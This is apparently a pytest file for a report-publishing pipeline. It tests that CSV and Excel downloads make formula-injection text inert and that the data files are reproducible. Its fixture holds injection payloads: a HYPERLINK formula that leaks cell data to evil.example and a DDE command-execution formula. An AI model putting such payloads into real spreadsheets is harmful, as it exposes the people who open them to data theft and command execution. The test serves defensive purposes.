"""Issue 9, break 3: formulas in the downloads. Text a spreadsheet would run is inert; numbers stay numbers."""
from __future__ import annotations

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest

from build_hooks.aggregate.indicators import rows_by_year
from build_hooks.aggregate.projects import merge_projects
from build_hooks.corpus.tree import load_corpus
from build_hooks.dev.synthetic import write_round
from build_hooks.publish.opendata import csv_text, round_files, workbook_name
from build_hooks.site.plan import plan_data_files
from support.site import BUILD_TODAY, submission_tree

LETTER = """---
agency: so-xay-dung
year: 2023
date: 15/12/2023
subject: báo cáo
recipient: Sở Công Thương
signer:
  name: Nguyễn Văn A
  title: Giám đốc
indicators:
  - id: tang-truong-gtgt-cong-nghiep
    value: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Bấm\\")"
    unit: "%"
    note: "=cmd|' /C calc'!A0"
  - id: ty-trong-cn-dv-grdp
    value: "-1,5"
    unit: "%"
    note: "@SUM(1+1)"
projects:
  - name: "=HYPERLINK(\\"https://evil.example/\\",\\"Bấm\\")"
    appendix: "2"
    status: đang triển khai
    note: "+1+1"
---

Nội dung.
"""


def _files(tmp_path):
    tree = submission_tree(tmp_path / "submissions", {"so-xay-dung.md": LETTER})
    corpus, problems = load_corpus(tree, today=datetime.date.fromisoformat(BUILD_TODAY))
    assert not [p for p in problems if p.is_error], problems
    rnd = corpus.round(2023)
    subs = corpus.submissions[2023]
    files = round_files(rnd, subs, corpus, rows_by_year(corpus)[2023], merge_projects(subs, corpus.registry))
    return {f.path.rsplit("/", 1)[-1]: f.content for f in files}


def test_csv_cells_that_would_run_start_with_a_quote(tmp_path):
    files = _files(tmp_path)
    cells = [c for name in ("indicators.csv", "projects.csv")
             for row in csv.reader(io.StringIO(files[name].decode("utf-8-sig"))) for c in row]
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")" in cells
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells and "'+1+1" in cells
    assert "'=HYPERLINK(\"https://evil.example/\",\"Bấm\")" in cells
    assert not [c for c in cells if c and c[0] in "=+@\t\r"]
    assert "-1.5" in cells  # a number stays a number


def test_workbook_text_cells_are_strings_not_formulas(tmp_path):
    book = openpyxl.load_workbook(io.BytesIO(_files(tmp_path)[workbook_name(2023)]))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")" in values  # the text as written, inert
    assert -1.5 in values


def test_csv_text_leaves_numbers_and_plain_text():
    assert csv_text("-1.5") == "-1.5" and csv_text("+3,5") == "+3,5" and csv_text(-2.0) == -2.0
    assert csv_text("- ghi chú") == "'- ghi chú" and csv_text("Bình thường") == "Bình thường"


# --- reproducible files ------------------------------------------------------------------------

@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    root = tmp_path_factory.mktemp("charts") / "submissions"
    write_round(root, 8, years=(2022, 2023, 2024), seed=4, conflicts=True, acknowledge=True)
    corpus, problems = load_corpus(root)
    assert not problems
    return corpus


def test_data_files_are_byte_identical_across_runs(corpus):
    first = {f.path: f.content for f in plan_data_files(corpus)}
    again = {f.path: f.content for f in plan_data_files(corpus)}
    assert first == again
    workbook = zipfile.ZipFile(io.BytesIO(first["2024/du-lieu/bao-cao-2024.xlsx"]))
    assert {i.date_time for i in workbook.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert b"2000-01-01" in workbook.read("docProps/core.xml")

